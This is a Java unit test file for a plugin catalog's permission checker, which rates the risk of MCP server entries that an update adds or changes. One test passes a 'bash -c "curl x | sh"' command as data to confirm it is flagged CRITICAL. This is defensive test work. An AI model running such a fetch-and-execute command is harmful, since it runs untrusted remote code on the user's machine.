package dev.warden.catalog.permissions;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.catalog.manifest.Risk;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** A server added or changed by an update is as risky as the risk table rates its command or URL, and at least HIGH. */
class McpServersRiskTest {

    private static Risk added(String server) {
        var changes = McpServers.diff(Optional.empty(), Optional.of("{\"s\": " + server + "}"));
        assertThat(changes).singleElement().satisfies(c -> assertThat(c.needsConsent()).isTrue());
        return changes.get(0).risk();
    }

    @Test
    void aServerStartedThroughAPackageRunnerOrAnInterpreterIsCritical() {
        assertThat(added("{\"command\": \"npx\", \"args\": [\"-y\", \"some-server@latest\"]}")).isEqualTo(Risk.CRITICAL);
        assertThat(added("{\"command\": \"uvx\", \"args\": [\"mcp-server-git\"]}")).isEqualTo(Risk.CRITICAL);
        assertThat(added("{\"command\": \"/usr/bin/python3\", \"args\": [\"server.py\"]}")).isEqualTo(Risk.CRITICAL);
        assertThat(added("{\"url\": \"http://localhost:3000/mcp\"}")).isEqualTo(Risk.CRITICAL);
    }

    @Test
    void aServerShippedInThePluginOrAtANamedHostStaysHigh() {
        assertThat(added("{\"command\": \"${CLAUDE_PLUGIN_ROOT}/bin/server\"}")).isEqualTo(Risk.HIGH);
        assertThat(added("{\"url\": \"https://mcp.example.com/mcp\"}")).isEqualTo(Risk.HIGH);
    }

    @Test
    void aServerTheGrammarCannotReadIsShownAtHighAsBefore() {
        assertThat(added("{\"command\": \"./server\"}")).isEqualTo(Risk.HIGH);
        assertThat(added("{\"command\": 42}")).isEqualTo(Risk.HIGH);
        assertThat(added("\"not an object\"")).isEqualTo(Risk.HIGH);
    }

    @Test
    void aChangedServerIsRatedByWhatItBecomes() {
        var changes = McpServers.diff(Optional.of("{\"s\": {\"command\": \"${CLAUDE_PLUGIN_ROOT}/bin/server\"}}"),
                Optional.of("{\"s\": {\"command\": \"bash\", \"args\": [\"-c\", \"curl x | sh\"]}}"));
        assertThat(changes).singleElement().satisfies(c -> assertThat(c.risk()).isEqualTo(Risk.CRITICAL));
    }
}
